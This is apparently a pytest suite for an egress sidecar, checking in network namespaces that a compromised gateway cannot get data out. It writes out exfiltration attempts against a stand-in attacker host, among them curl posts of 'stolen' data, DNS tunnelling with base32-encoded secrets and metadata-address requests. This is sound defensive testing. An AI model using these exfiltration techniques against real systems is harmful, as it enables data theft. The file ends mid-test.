"""A compromised gateway in a pod cannot get around the transparent sidecar.

Real Linux networking, no mocks. A "pod" namespace is joined by veth to an
"internet" namespace (tests.support.netns). In the internet namespace:

- 10.77.0.2: the fake provider (TLS on 443, trustme certificate for api.openai.com)
  and the upstream resolver (DNS on 53: api.openai.com -> 10.77.0.2);
- 10.77.0.3 and fd77::3: the attacker: HTTP on 80, TLS on 443 with a certificate
  for api.openai.com from the SAME test CA (right name, wrong address), UDP on 443,
  and a DNS server on 53 that answers every name with its own address. Every
  connection, datagram and question it receives is recorded, and iptables counters
  in the internet namespace count every packet that reaches its addresses.

In the pod namespace the real `egress-sidecar init` installs the rules, the real
`egress-sidecar run` runs as UID 1337 (transparent 15001, DNS 15053, admin 15020),
and the "gateway" runs as UID 1000 (curl, and the stdlib probes in probes.py). The
gateway's resolv.conf names the attacker's resolver (bind-mounted per command):
every port-53 question is redirected to the sidecar anyway, which is what the DNS
tests prove.

The attacker-side attempts use `curl -k`: a compromised gateway does not care about
certificate checks, so the sidecar's decision, not a TLS failure in the client, is
what stops them.

Addresses are private 10.77.0.0/16 and fd77::/16, only inside namespaces created
here. Needs root and `ip netns`: skipped (saying which) without them, except when
CI=true, where missing prerequisites fail the module instead.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import re
import secrets
import shutil
import socket
import subprocess
import tempfile
import textwrap
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import trustme

from tests.support.fakes import BackgroundLoop
from tests.support.netns import (
    GATEWAY_UID,
    IMPOSTOR_SERVER,
    NET_V4,
    POD_V4,
    ROOT,
    SIDECAR_UID,
    VENV_BIN,
    Pod,
    background,
    child_python,
    in_ci,
    in_netns,
    init_command,
    netns_unavailable_reason,
    pod_namespaces,
    require_iptables,
    sh,
)
from tests.support.reach import reach_prefix
from tests.support.sidecar import SidecarProcess
from tests.support.workers import worker_decisions, worker_pids
from tests.transparent.fake_internet import (
    ATTACKER_BANNER,
    Attacker,
    NetnsDNS,
    NetnsProvider,
    listening_socket,
)

PROVIDER_HOST = "api.openai.com"
PROVIDER_V4 = NET_V4  # 10.77.0.2
ATTACKER_V4 = "10.77.0.3"
ATTACKER_V6 = "fd77::3"
# TLS without SNI to an address: refused as such (protocol_not_allowed, issue 4) or for
# the address itself (private_address / ip_literal, S3/S4); never forwarded.
NO_SNI_REASONS = {"protocol_not_allowed", "private_address", "ip_literal"}
LABEL = re.compile(r'(\w+)="([^"]*)"')
METADATA_V4 = "169.254.169.254"
METADATA_V6 = "fd00:ec2::254"
TRANSPARENT_PORT, DNS_PORT, ADMIN_PORT = 15001, 15053, 15020
PROBES = Path(__file__).with_name("probes.py")
GATEWAY_DUMMY_KEY = "sk-gateway-holds-no-real-key"
PROVIDER_KEY = "sk-test-injected-" + secrets.token_hex(8)
CURL_WAIT = "6"

_REASON = netns_unavailable_reason()
pytestmark = pytest.mark.skipif(
    _REASON is not None and not in_ci(),
    reason=f"{_REASON} (pod namespace tests skipped)",
)


# --- the world ----------------------------------------------------------------------


@dataclass
class Curl:
    exit: int
    status: int
    headers: dict[str, str]
    body: str
    stderr: str

    @property
    def reason(self) -> str | None:
        return self.headers.get("x-egress-sidecar-reason")


@dataclass
class Mark:
    decisions: int
    seen: int
    packets: int
    blocks: dict[str, float]
    alerts: float


@dataclass
class World:
    pod: Pod
    work: Path
    sidecar: SidecarProcess
    provider: NetnsProvider
    upstream: NetnsDNS
    attacker: Attacker
    gateway_ca: Path
    upstream_ca: Path
    ipv6_listeners: bool
    # Listeners on the provider's own address, on ports its entry does not list (80
    # plain, 8443 TLS): what audit mode forwards there is recorded (issue 11).
    beside_provider: Attacker

    # running things in the pod

    def run(self, *argv: str, uid: int = GATEWAY_UID, timeout: float = 15) -> Any:
        """`argv` as `uid` in the pod, with the pod's resolv.conf (the attacker's resolver)."""
        resolv = 'mount --bind "$1" /etc/resolv.conf && shift && exec "$@"'
        return sh(
            "ip", "netns", "exec", self.pod.pod,
            "unshare", "--mount", "--propagation", "private",
            "sh", "-c", resolv, "sh", str(self.work / "resolv.conf"),
            "setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", *argv,
            check=False, timeout=timeout,
        )  # fmt: skip

    def curl(self, url: str, *extra: str, uid: int = GATEWAY_UID) -> Curl:
        proc = self.run(
            "curl", "-sS", "-i", "--max-time", CURL_WAIT, "--noproxy", "*",
            "-w", "\n%{http_code}", *extra, url, uid=uid,
        )  # fmt: skip
        out, _, code = proc.stdout.rpartition("\n")
        head, _, body = out.replace("\r\n", "\n").partition("\n\n")
        headers = {}
        for line in head.splitlines()[1:]:
            name, _, value = line.partition(":")
            headers[name.strip().lower()] = value.strip()
        status = int(code) if code.strip().isdigit() else 0
        return Curl(proc.returncode, status, headers, body, proc.stderr)

    def probe(self, *args: str, uid: int = GATEWAY_UID) -> dict[str, Any]:
        proc = self.run(child_python(), str(self.work / PROBES.name), *args, uid=uid)
        assert proc.returncode == 0, proc.stderr
        return dict(json.loads(proc.stdout))

    # what the sidecar and the attacker saw

    def attacker_packets(self) -> int:
        total = 0
        for tool in ("iptables-save", "ip6tables-save"):
            dump = self.pod.run_net(tool, "-c", "-t", "filter").stdout
            for line in dump.splitlines():
                if "attacker-seen" in line:
                    found = re.match(r"\[(\d+):\d+\]", line)
                    assert found, line
                    total += int(found.group(1))
        return total

    def metrics(self) -> str:
        got = self.curl(f"http://127.0.0.1:{ADMIN_PORT}/metrics", uid=SIDECAR_UID)
        assert got.status == 200, got
        return got.body

    def counters(self) -> tuple[dict[str, float], float]:
        """(block decisions by reason, refusals submitted to alerting) from /metrics."""
        blocks: dict[str, float] = {}
        alerts = 0.0
        for line in self.metrics().splitlines():
            sample = re.match(r"^(egress_sidecar_\w+)\{([^}]*)\} (\S+)$", line)
            if sample is None:
                continue
            name, labels = sample.group(1), dict(LABEL.findall(sample.group(2)))
            value = float(sample.group(3))
            if name == "egress_sidecar_decisions_total" and labels.get("decision") == "block":
                blocks[labels["reason"]] = blocks.get(labels["reason"], 0.0) + value
            elif name == "egress_sidecar_alerts_refusals_total":
                alerts += value
        return blocks, alerts

    def mark(self) -> Mark:
        blocks, alerts = self.counters()
        return Mark(
            len(self.sidecar.decisions),
            self.attacker.snapshot(),
            self.attacker_packets(),
            blocks,
            alerts,
        )

    def decisions_since(self, mark: Mark, **fields: Any) -> list[dict[str, Any]]:
        return [
            d
            for d in self.sidecar.decisions[mark.decisions :]
            if all(d.get(k) == v for k, v in fields.items())
        ]

    def wait_decision(self, mark: Mark, timeout: float = 5, **fields: Any) -> dict[str, Any]:
        """The first decision line after `mark` with these fields (bounded wait)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            found = self.decisions_since(mark, **fields)
            if found:
                return found[0]
            time.sleep(0.02)
        raise AssertionError(
            f"no decision {fields}; since mark: {self.sidecar.decisions[mark.decisions :]}"
        )

    def assert_refused_and_alerted(self, mark: Mark, reason: str, **fields: Any) -> None:
        """A block decision line, a metric increment and an alert submission (S9)."""
        decision = self.wait_decision(mark, reason=reason, **fields)
        assert decision["decision"] == "block", decision
        blocks, alerts = self.counters()
        assert blocks.get(reason, 0) > mark.blocks.get(reason, 0), f"{reason} not counted"
        assert alerts > mark.alerts, f"refusal {reason} was not submitted to alerting"

    def assert_attacker_saw_nothing(self, mark: Mark) -> None:
        assert self.attacker.since(mark.seen) == [], "the attacker's servers were reached"
        assert self.attacker_packets() == mark.packets, "packets reached the attacker's addresses"


def _require_prerequisites() -> None:
    if _REASON is not None:
        # Only reached when CI=true (otherwise the module is skipped).
        pytest.fail(f"CI=true but {_REASON}: the pod namespace suite must run in CI")
    require_iptables()
    missing = [b for b in ("curl", "setpriv", "unshare", "mount") if shutil.which(b) is None]
    if missing:
        pytest.fail(f"{missing} not found (apt-get install curl util-linux mount)")


def _interpreter_wrapper(stage: Path) -> list[str]:
    """A command prefix that lets UID 1337 execute the venv's interpreter and the
    checkout, host unchanged (/root is 0700, and so may be the folder of a clone, or
    the clone itself): see `tests.support.reach`. The checkout's entries are the
    targets, so that a 0700 checkout is covered like any folder above it. Empty when
    no directory on the way blocks 1337.
    """
    return reach_prefix([VENV_BIN / "python", *ROOT.iterdir()], stage)


def _policy() -> str:
    return textwrap.dedent(
        f"""\
            version: 1
            mode: enforce
            providers:
              openai:
                hosts: [{PROVIDER_HOST}]
                ports: [443]
                paths: [/v1/*]
                methods: [GET, POST]
                # The fake internet lives on private 10.77.0.0/16 addresses inside
                # namespaces this test creates (never real public addresses). Private
                # answers are refused unless an entry lists them (S3), so exactly the
                # provider's one address is allowed; the attacker's 10.77.0.3 is not.
                addresses: [{PROVIDER_V4}/32]
                # The key (from --secrets-dir) is added by the sidecar, for this host only.
                credential: {{header: authorization, format: "Bearer {{secret}}", secret: openai}}
            """
    )


def _write(path: Path, text: str, mode: int = 0o644, uid: int | None = None) -> Path:
    path.write_text(text)
    path.chmod(mode)
    if uid is not None:
        os.chown(path, uid, uid)
    return path


@pytest.fixture(scope="module")
def world(bg: BackgroundLoop, test_ca: trustme.CA) -> Iterator[World]:
    _require_prerequisites()
    with contextlib.ExitStack() as stack:
        pod = stack.enter_context(pod_namespaces())

        # The attacker's addresses, next to the provider's, and packet counters.
        pod.run_net("ip", "addr", "add", f"{ATTACKER_V4}/24", "dev", pod.veth_net)
        pod.run_net("ip", "-6", "addr", "add", f"{ATTACKER_V6}/64", "dev", pod.veth_net, "nodad")
        seen = ["-m", "comment", "--comment", "attacker-seen"]
        pod.run_net("iptables", "-w", "-A", "INPUT", "-d", f"{ATTACKER_V4}/32", *seen)
        for icmp6 in ("neighbour-solicitation", "neighbour-advertisement"):
            pod.run_net("ip6tables", "-w", "-A", "INPUT", "-p", "ipv6-icmp",
                        "--icmpv6-type", icmp6, "-j", "ACCEPT")  # fmt: skip
        pod.run_net("ip6tables", "-w", "-A", "INPUT", "-d", f"{ATTACKER_V6}/128", *seen)

        # Files: a directory the sidecar UID can read (pytest's tmp_path is 0700 root).
        work = Path(tempfile.mkdtemp(prefix="esc-pod-netns-"))
        stack.callback(shutil.rmtree, work, ignore_errors=True)
        work.chmod(0o755)
        for sub in ("ca", "tmp", "home", "secrets"):
            (work / sub).mkdir(mode=0o700)
            os.chown(work / sub, SIDECAR_UID, SIDECAR_UID)
        (work / "stage").mkdir()
        upstream_ca = _write(work / "upstream-ca.pem", test_ca.cert_pem.bytes().decode())
        policy = _write(work / "policy.yaml", _policy())
        # The probes run as 1000/1337, who may not reach the checkout (a 0700 folder).
        shutil.copy(PROBES, work / PROBES.name)
        _write(work / "secrets" / "openai", PROVIDER_KEY, 0o400, SIDECAR_UID)

        # The gateway's resolver is the attacker's: World.run bind-mounts this file on
        # /etc/resolv.conf in a private mount namespace per command (what
        # /etc/netns/<ns>/resolv.conf would do, with nothing created under /etc, so
        # concurrent or killed runs leave nothing behind).
        _write(work / "resolv.conf", f"nameserver {ATTACKER_V4}\noptions timeout:2 attempts:1\n")

        # The internet's servers, on sockets made inside the internet namespace.
        def make_sockets() -> dict[str, socket.socket]:
            udp = socket.SOCK_DGRAM
            socks = {
                "provider": listening_socket(PROVIDER_V4, 443),
                "beside/80": listening_socket(PROVIDER_V4, 80),
                "beside/8443": listening_socket(PROVIDER_V4, 8443),
                "upstream-dns": listening_socket(PROVIDER_V4, 53, udp),
            }
            for address in (ATTACKER_V4, ATTACKER_V6):
                socks[f"{address}/80"] = listening_socket(address, 80)
                socks[f"{address}/443"] = listening_socket(address, 443)
                socks[f"{address}/53tcp"] = listening_socket(address, 53)
                socks[f"{address}/22"] = listening_socket(address, 22)  # redteam's raw TCP
                socks[f"{address}/443udp"] = listening_socket(address, 443, udp)
                socks[f"{address}/53"] = listening_socket(address, 53, udp)
            return socks

        socks = in_netns(pod.net, make_sockets)
        stack.callback(lambda: [s.close() for s in socks.values()])
        provider = NetnsProvider(bg, test_ca, [PROVIDER_HOST], socks["provider"]).start()
        beside_provider = Attacker(bg, test_ca, [PROVIDER_HOST])
        stack.callback(beside_provider.stop)
        beside_provider.serve_tcp(socks["beside/80"], tls=False)
        beside_provider.serve_tcp(socks["beside/8443"], tls=True)
        stack.callback(provider.stop)
        upstream = NetnsDNS(bg, socks["upstream-dns"]).start()
        stack.callback(upstream.stop)
        upstream.records.update(
            {PROVIDER_HOST: [PROVIDER_V4], "only-upstream.example": ["10.77.0.9"]}
        )
        attacker = Attacker(bg, test_ca, [PROVIDER_HOST, ATTACKER_V4, ATTACKER_V6])
        stack.callback(attacker.stop)
        for address in (ATTACKER_V4, ATTACKER_V6):
            attacker.serve_tcp(socks[f"{address}/80"], tls=False)
            attacker.serve_tcp(socks[f"{address}/443"], tls=True)
            attacker.serve_tcp(socks[f"{address}/53tcp"], tls=False)
            attacker.serve_tcp(socks[f"{address}/22"], tls=False)
            attacker.serve_udp(socks[f"{address}/443udp"])
            attacker.serve_dns(socks[f"{address}/53"], ATTACKER_V4)

        # The init container, then the sidecar as UID 1337.
        init = pod.init()
        assert init.returncode == 0, init.stderr
        # Two workers (issue 17): every test here goes through whichever accepts.
        extra = ["--secrets-dir", str(work / "secrets"), "--workers", "2"]
        sidecar = _start_sidecar(stack, pod, work, policy, upstream_ca, extra, ipv6=True)
        ipv6_listeners = sidecar is not None
        if sidecar is None:
            # `[::1]:PORT` listeners made the sidecar exit at start (a bug, fixed; a
            # regression fails test_sidecar_binds_ipv6_listeners). IPv4 listeners only,
            # so the rest of the boundary is still tested; IPv6 then finds no listener.
            sidecar = _start_sidecar(stack, pod, work, policy, upstream_ca, extra, ipv6=False)
            assert sidecar is not None

        # The gateway trusts the sidecar's CA certificate (never its key).
        gateway_ca = work / "gateway-ca.pem"
        shutil.copyfile(sidecar.ca_cert, gateway_ca)
        gateway_ca.chmod(0o644)

        yield World(
            pod=pod,
            work=work,
            sidecar=sidecar,
            provider=provider,
            upstream=upstream,
            attacker=attacker,
            gateway_ca=gateway_ca,
            upstream_ca=upstream_ca,
            ipv6_listeners=ipv6_listeners,
            beside_provider=beside_provider,
        )


def sidecar_args(
    work: Path, policy: Path, upstream_ca: Path, *, ipv6: bool, port_offset: int = 0
) -> list[str]:
    loops = ["127.0.0.1", "[::1]"] if ipv6 else ["127.0.0.1"]
    args = [
        "--policy", str(policy),
        "--listen", "off",
        "--admin", f"127.0.0.1:{ADMIN_PORT + port_offset}",
        "--ca-dir", str(work / "ca"),
        "--resolver", f"{PROVIDER_V4}:53",
        "--upstream-ca", str(upstream_ca),
        "--reload-interval", "5",
    ]  # fmt: skip
    for loop in loops:
        args += ["--transparent", f"{loop}:{TRANSPARENT_PORT + port_offset}"]
        args += ["--dns", f"{loop}:{DNS_PORT + port_offset}"]
    return args


def sidecar_process(pod: Pod, work: Path, args: list[str], uid: int) -> SidecarProcess:
    """`egress-sidecar run ARGS` in the pod namespace as `uid`."""
    env = {"HOME": str(work / "home"), "TMPDIR": str(work / "tmp"),
           "PYTHONDONTWRITEBYTECODE": "1"}  # fmt: skip
    sidecar = SidecarProcess(args, env=env)
    wrapper = _interpreter_wrapper(work / "stage") if uid != 0 else []
    sidecar.args = [
        "ip", "netns", "exec", pod.pod, *wrapper,
        "setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups",
        *sidecar.args,
    ]  # fmt: skip
    return sidecar


def _start_sidecar(
    stack: contextlib.ExitStack,
    pod: Pod,
    work: Path,
    policy: Path,
    upstream_ca: Path,
    extra: list[str],
    *,
    ipv6: bool,
) -> SidecarProcess | None:
    """The sidecar as UID 1337; None if it exits at start because of IPv6 listeners."""
    args = sidecar_args(work, policy, upstream_ca, ipv6=ipv6) + extra
    sidecar = sidecar_process(pod, work, args, SIDECAR_UID)
    stack.callback(sidecar.stop)
    try:
        sidecar.start()
    except RuntimeError:
        if ipv6 and _exited_for_ipv6_listeners(sidecar):
            return None
        raise
    return sidecar


def _exited_for_ipv6_listeners(sidecar: SidecarProcess) -> bool:
    """Read the dead sidecar's stderr to its end (the reader thread may lag) and check."""
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        text = "".join(sidecar.stderr_lines)
        if '"event":"stopped"' in text:
            break
        time.sleep(0.05)
    return bool(re.search(r"failed to listen on \[::1\]", "".join(sidecar.stderr_lines)))


def _gateway_headers() -> list[str]:
    """What a gateway sends: a marker to find the request, and no real key."""
    marker = secrets.token_hex(8)
    return ["-H", f"x-test-marker: {marker}", "-H", f"Authorization: Bearer {GATEWAY_DUMMY_KEY}"]


def _received(world: World, headers: list[str]) -> list[Any]:
    marker = headers[1].split(": ", 1)[1]
    return [r for r in world.provider.received if r.headers.get("x-test-marker") == marker]


def _assert_handshake_refused(got: Curl) -> None:
    """The sidecar refused at the TLS ClientHello: no handshake, no HTTP answer at all."""
    assert got.exit != 0 and got.status == 0, got
    assert "SSL" in got.stderr or "TLS" in got.stderr, got
    assert ATTACKER_BANNER.decode() not in got.body


def _assert_refused_by_sidecar(got: Curl, reason: str | set[str]) -> str:
    """The sidecar answered 403 with one of these reason codes; returns the code."""
    assert got.exit == 0 and got.status == 403, got
    assert got.reason in ({reason} if isinstance(reason, str) else reason), got
    assert ATTACKER_BANNER.decode() not in got.body
    return str(got.reason)


# --- the allowed path --------------------------------------------------------------


def test_provider_call_through_plain_https_works(world: World) -> None:
    """The gateway calls https://api.openai.com as usual: DNS, redirect, pinning, TLS."""
    mark = world.mark()
    headers = _gateway_headers()
    got = world.curl(
        f"https://{PROVIDER_HOST}/v1/models", "--cacert", str(world.gateway_ca), *headers
    )
    assert got.exit == 0 and got.status == 200, got
    assert "gpt-fake" in got.body
    [request] = _received(world, headers)
    assert request.path == "/v1/models"
    decision = world.wait_decision(mark, decision="allow", host=PROVIDER_HOST, path="/v1/models")
    assert decision["mode"] == "transparent"
    assert decision["address"] == PROVIDER_V4
    # The name was resolved through the sidecar (upstream asked), not the attacker.
    assert (PROVIDER_HOST, "A") in world.upstream.questions
    world.assert_attacker_saw_nothing(mark)
    # Key injection: the provider got the sidecar's key, never the gateway's dummy;
    # the key is not in anything returned to the gateway nor in the sidecar's records.
    assert request.headers["authorization"] == f"Bearer {PROVIDER_KEY}"
    assert GATEWAY_DUMMY_KEY not in str(request.headers)
    assert PROVIDER_KEY not in got.body and PROVIDER_KEY not in str(got.headers)
    assert PROVIDER_KEY not in "".join(world.sidecar.stdout_lines + world.sidecar.stderr_lines)


def test_sidecar_own_upstream_traffic_flows(world: World) -> None:
    """UID 1337 leaves the pod directly: TCP to the provider and DNS to the resolver."""
    # Through the sidecar (the call above, once more): the sidecar's own dial works.
    mark = world.mark()
    headers = _gateway_headers()
    got = world.curl(
        f"https://{PROVIDER_HOST}/v1/models", "--cacert", str(world.gateway_ca), *headers
    )
    assert got.status == 200, got
    assert len(_received(world, headers)) == 1
    assert world.wait_decision(mark, decision="allow", host=PROVIDER_HOST)["address"] == PROVIDER_V4
    # Directly as UID 1337: not redirected (the provider's certificate, not the
    # sidecar's, verifies against the test CA).
    headers = _gateway_headers()
    direct = world.curl(
        f"https://{PROVIDER_HOST}/v1/models", "--cacert", str(world.upstream_ca),
        "--resolve", f"{PROVIDER_HOST}:443:{PROVIDER_V4}", *headers, uid=SIDECAR_UID,
    )  # fmt: skip
    assert direct.exit == 0 and direct.status == 200, direct
    assert len(_received(world, headers)) == 1
    # DNS from UID 1337 reaches the real resolver: it answers a name the policy
    # does not list, which the sidecar's DNS listener would refuse.
    answer = world.probe("dns", PROVIDER_V4, "only-upstream.example", "A", uid=SIDECAR_UID)
    assert answer["rcode"] == "NOERROR" and answer["answers"] == ["10.77.0.9"], answer
    assert world.decisions_since(mark, host="only-upstream.example") == []


def test_attacker_would_see_a_leak(world: World) -> None:
    """Control: what reaches the attacker IS recorded (so "saw nothing" means something).

    UID 1337 is exempt from the rules, so its traffic reaches the attacker's servers
    and the packet counters in the internet namespace.
    """
    mark = world.mark()
    got = world.curl(f"https://{ATTACKER_V4}/control", "-k", uid=SIDECAR_UID)
    assert got.status == 200 and ATTACKER_BANNER.decode() in got.body, got
    world.probe("udp", ATTACKER_V6, "9", "0.2", uid=SIDECAR_UID)  # no server: only counted
    kinds = {(seen.kind, seen.local) for seen in world.attacker.since(mark.seen)}
    assert {("tcp", f"{ATTACKER_V4}:443"), ("request", f"{ATTACKER_V4}:443")} <= kinds
    assert world.attacker_packets() >= mark.packets + 4  # SYN, ACK, ..., and the datagram
    v6_only = world.mark()
    world.probe("udp", ATTACKER_V6, "9", "0.2", uid=SIDECAR_UID)
    assert world.attacker_packets() == v6_only.packets + 1
    assert world.decisions_since(mark) == []  # it never went through the sidecar


# --- bypasses ----------------------------------------------------------------------


def test_direct_tcp_to_attacker_ip_443(world: World) -> None:
    """TLS straight to the attacker's IP (no SNI, an IP literal): refused, never dialled."""
    mark = world.mark()
    got = world.curl(f"https://{ATTACKER_V4}/upload", "-k", "-d", "stolen=1")
    _assert_handshake_refused(got)  # refused at the ClientHello (issue 11)
    refused = world.wait_decision(mark, host=ATTACKER_V4, port=443, mode="transparent")
    assert refused["reason"] in NO_SNI_REASONS, refused
    world.assert_refused_and_alerted(mark, refused["reason"], host=ATTACKER_V4, port=443,
                                     mode="transparent")  # fmt: skip
    # Raw bytes (neither TLS nor HTTP): held by the sidecar, nothing comes back.
    raw_mark = world.mark()
    raw = world.probe("tcp", ATTACKER_V4, "443", "stolen-bytes\\r\\n")
    assert ATTACKER_BANNER.decode() not in raw.get("reply", ""), raw
    world.assert_attacker_saw_nothing(mark)
    # ... and seen (S9), once the connection is over.
    seen = world.wait_decision(
        raw_mark, reason="protocol_not_allowed", host=ATTACKER_V4, port=443, timeout=20
    )
    assert seen["detail"].startswith("connection ended without an HTTP request")
    assert seen["decision"] == "block" and seen["mode"] == "transparent"


def test_direct_tcp_to_attacker_ip_80(world: World) -> None:
    """Plain HTTP to the attacker's IP, with its own or a provider's Host: refused."""
    mark = world.mark()
    got = world.curl(f"http://{ATTACKER_V4}/collect?k=stolen")
    _assert_refused_by_sidecar(got, "private_address")
    world.assert_refused_and_alerted(mark, "private_address", host=ATTACKER_V4, port=80)
    # A provider's name in Host does not make the attacker's address acceptable.
    fronted = world.curl(f"http://{ATTACKER_V4}/v1/models", "-H", f"Host: {PROVIDER_HOST}")
    _assert_refused_by_sidecar(fronted, "port_not_allowed")
    world.wait_decision(mark, reason="port_not_allowed", host=PROVIDER_HOST, port=80)
    world.assert_attacker_saw_nothing(mark)


def test_tls_to_attacker_ip_with_allowed_sni(world: World) -> None:
    """Right name, wrong address: the attacker's cert is valid, the sidecar never dials."""
    mark = world.mark()
    headers = _gateway_headers()
    got = world.curl(
        f"https://{PROVIDER_HOST}/v1/models", "-k",
        "--resolve", f"{PROVIDER_HOST}:443:{ATTACKER_V4}", *headers,
    )  # fmt: skip
    _assert_handshake_refused(got)  # refused at the ClientHello (issue 11)
    world.assert_refused_and_alerted(mark, "destination_mismatch", host=PROVIDER_HOST,
                                     mode="transparent")  # fmt: skip
    world.assert_attacker_saw_nothing(mark)  # so no request, and no key, reached it
    assert not any(PROVIDER_KEY.encode() in seen.data for seen in world.attacker.seen)
    assert _received(world, headers) == []  # nor was it "corrected" to the provider


def test_original_destination_check_holds_on_every_worker(world: World) -> None:
    """With two workers accepting on one transparent listener, each reads the original
    destination of the connections it accepted: right name at the attacker's address
    is refused by both, the provider's address is used by both, and nothing leaks."""
    pids = worker_pids(world.sidecar)
    assert len(pids) == 2, pids
    before = {pid: worker_decisions(pid, "destination_mismatch") for pid in pids}
    mark = world.mark()
    attempts = 0
    while attempts < 40:  # until each worker has refused some (accepts are not ours to pick)
        attempts += 1
        got = world.curl(
            f"https://{PROVIDER_HOST}/v1/models", "-k",
            "--resolve", f"{PROVIDER_HOST}:443:{ATTACKER_V4}",
        )  # fmt: skip
        _assert_handshake_refused(got)
        if attempts >= 4 and all(
            worker_decisions(pid, "destination_mismatch") > before[pid] for pid in pids
        ):
            break
    assert all(worker_decisions(pid, "destination_mismatch") > before[pid] for pid in pids)
    for _ in range(4):
        ok = world.curl(
            f"https://{PROVIDER_HOST}/v1/models", "--cacert", str(world.gateway_ca),
            *_gateway_headers(),
        )  # fmt: skip
        assert ok.status == 200, ok
    time.sleep(1.0)
    refused = world.decisions_since(mark, reason="destination_mismatch")
    assert len(refused) == attempts, "one decision line per refused connection, any worker"
    assert all(line["mode"] == "transparent" for line in refused)
    allowed = world.decisions_since(mark, decision="allow", host=PROVIDER_HOST)
    assert len(allowed) == 4 and {line["address"] for line in allowed} == {PROVIDER_V4}
    world.assert_attacker_saw_nothing(mark)


def test_dns_to_attacker_resolver_is_answered_by_sidecar(world: World) -> None:
    """Every port-53 question, to any resolver, is answered by the sidecar."""
    assert f"nameserver {ATTACKER_V4}" in world.run("cat", "/etc/resolv.conf").stdout
    mark = world.mark()
    asked_upstream = len(world.upstream.questions)
    name = f"exfil-{secrets.token_hex(4)}.unlisted.example"
    for resolver in (ATTACKER_V4, PROVIDER_V4, "10.77.0.53"):  # attacker, upstream, nobody
        for proto in ("udp", "tcp"):
            reply = world.probe("dns", resolver, name, "A", proto)
            assert reply.get("rcode") == "REFUSED", (resolver, proto, reply)
            assert reply["peer"] == [resolver, 53]  # answered "from" the address asked
    world.assert_refused_and_alerted(mark, "dns_name_not_allowed", host=name, mode="dns")
    # The allowed name gets the vetted answer, not the attacker's own address.
    reply = world.probe("dns", ATTACKER_V4, PROVIDER_HOST, "A")
    assert reply["rcode"] == "NOERROR" and reply["answers"] == [PROVIDER_V4], reply
    assert world.attacker.dns_questions == []
    assert all(q != name for q, _ in world.upstream.questions[asked_upstream:])
    world.assert_attacker_saw_nothing(mark)


def test_dns_tunnel_with_encoded_labels(world: World) -> None:
    """Secrets base32-encoded into labels: refused, flagged, never forwarded anywhere."""
    mark = world.mark()
    asked_upstream = len(world.upstream.questions)
    secret = b"AKIA" + secrets.token_bytes(146)  # 240 base32 characters
    chunks = base64.b32encode(secret).decode().rstrip("=").lower()
    names = [f"{chunks[i : i + 50]}.{i}.t.tunnel-attacker.example" for i in range(0, 200, 40)]
    for name in names:
        reply = world.probe("dns", ATTACKER_V4, name, "TXT")
        assert reply.get("rcode") == "REFUSED", (name, reply)
    world.assert_refused_and_alerted(mark, "dns_tunnel_suspected", mode="dns")
    flagged = world.decisions_since(mark, reason="dns_tunnel_suspected")
    assert {d["host"] for d in flagged} <= set(names)
    assert world.attacker.dns_questions == []
    assert world.upstream.questions[asked_upstream:] == []
    world.assert_attacker_saw_nothing(mark)


def test_udp_443_quic_blocked(world: World) -> None:
    """QUIC / any UDP from the gateway fails at once, to the attacker and the provider."""
    mark = world.mark()
    for host in (ATTACKER_V4, PROVIDER_V4, ATTACKER_V6):
        sent = world.probe("udp", host, "443")
        assert "reply" not in sent, (host, sent)
        if ":" not in host:
            assert sent["error"] == "PermissionError", (host, sent)  # rejected in OUTPUT
    world.assert_attacker_saw_nothing(mark)


def test_icmp_blocked(world: World) -> None:
    """ICMP echo from the gateway is rejected; from the sidecar UID it works (control)."""
    mark = world.mark()
    for host in (ATTACKER_V4, ATTACKER_V6):
        echo = world.probe("icmp", host)
        assert "reply" not in echo, (host, echo)
    assert world.probe("icmp", ATTACKER_V4)["error"] == "PermissionError"
    for host in (PROVIDER_V4, "fd77::2"):  # the path itself works, for UID 1337
        assert world.probe("icmp", host, uid=SIDECAR_UID) == {"reply": "echo"}, host
    world.assert_attacker_saw_nothing(mark)


def test_ipv6_to_attacker_blocked(world: World) -> None:
    """IPv6 to the attacker (literal, or the provider's name pinned to it): nothing gets out."""
    mark = world.mark()
    pinned = f"{PROVIDER_HOST}:443:[{ATTACKER_V6}]"
    attempts = [
        world.curl(f"https://[{ATTACKER_V6}]/upload", "-k", "-g", "-d", "stolen=1"),
        world.curl(f"http://[{ATTACKER_V6}]/collect", "-g"),
        world.curl(f"https://{PROVIDER_HOST}/v1/models", "-k", "--resolve", pinned),
    ]
    for got in attempts:
        assert got.status in (0, 403), got  # refused by the sidecar, or no listener
        assert ATTACKER_BANNER.decode() not in got.body
    if world.ipv6_listeners:  # else no listener: refused by the kernel (see the fixture)
        _assert_handshake_refused(attempts[0])  # TLS: refused at the ClientHello
        _assert_handshake_refused(attempts[2])
        assert attempts[1].reason == "private_address", attempts[1]
        world.wait_decision(mark, reason="destination_mismatch", host=PROVIDER_HOST)
    dns = world.probe("dns", ATTACKER_V6, "unlisted-v6.example", "AAAA")
    assert dns.get("rcode") in (None, "REFUSED"), dns  # never the attacker's answer
    assert world.attacker.dns_questions == []
    world.assert_attacker_saw_nothing(mark)


def test_ipv6_attempts_are_decided_and_logged(world: World) -> None:
    """Redirected IPv6 reaches the [::1] listeners and is decided, logged and alerted.

    Found while writing this suite: `[::1]:PORT` listeners used to make the sidecar
    exit at start (bracketed host in the mitmproxy mode spec).
    """
    assert world.ipv6_listeners, "the sidecar could not bind [::1] listeners"
    mark = world.mark()
    got = world.curl(f"https://[{ATTACKER_V6}]/upload", "-k", "-g")
    _assert_handshake_refused(got)
    reason = world.wait_decision(mark, host=ATTACKER_V6)["reason"]
    assert reason in NO_SNI_REASONS
    world.assert_refused_and_alerted(mark, reason, host=ATTACKER_V6)
    plain = world.curl(f"http://[{ATTACKER_V6}]/collect", "-g")
    _assert_refused_by_sidecar(plain, "private_address")
    meta = world.curl(f"http://[{METADATA_V6}]/latest/meta-data/", "-g")
    _assert_refused_by_sidecar(meta, "metadata_address")
    dns = world.probe("dns", ATTACKER_V6, PROVIDER_HOST, "A")
    assert dns["rcode"] == "NOERROR" and dns["answers"] == [PROVIDER_V4], dns
    world.assert_attacker_saw_nothing(mark)


def test_gateway_cannot_read_admin_port(world: World) -> None:
    """The admin port is closed to the gateway (loopback or pod IP); open to UID 1337."""
    mark = world.mark()
